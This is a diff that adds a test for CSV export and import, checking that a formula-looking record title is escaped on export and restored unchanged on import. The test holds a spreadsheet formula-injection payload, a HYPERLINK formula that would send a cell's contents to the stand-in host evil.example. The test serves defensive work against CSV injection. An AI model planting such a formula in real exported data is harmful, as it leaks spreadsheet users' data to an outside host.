@@ -85,3 +85,33 @@ describe('CSV export', () => {
     expect(summary.unchanged).toBe(seedDataset.records.filter((r) => r.kind === 'attack').length)
   })
 })
+
+describe('CSV export of hostile text', () => {
+  it('writes a formula-looking title as text and reads it back as the same title', async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+    const [first, ...rest] = seedDataset.records
+    if (!first) throw new Error('the seed has records')
+    const source = await openSqliteStore({ file: ':memory:' })
+    const target = await openSqliteStore({ file: ':memory:' })
+    try {
+      await source.seed({
+        ...seedDataset,
+        ...dictionaries,
+        records: [{ ...first, title: hostile }, ...rest],
+      })
+      const exported = await collect(exportCsv(source))
+      const { rows } = await rowsOf(exported)
+      expect(rows.find((r) => r.id === first.id)?.title).toBe(`'${hostile}`)
+      expect(rows.every((r) => !/^[=+@-]/.test(r.title ?? ''))).toBe(true)
+      const summary = await importStream(target, chunked(exported, 1024), {
+        format: 'csv',
+        by: 'test',
+      })
+      expect(summary.rejected).toEqual([])
+      expect((await target.getRecord(first.id)).record.title).toBe(hostile)
+    } finally {
+      await source.close()
+      await target.close()
+    }
+  })
+})
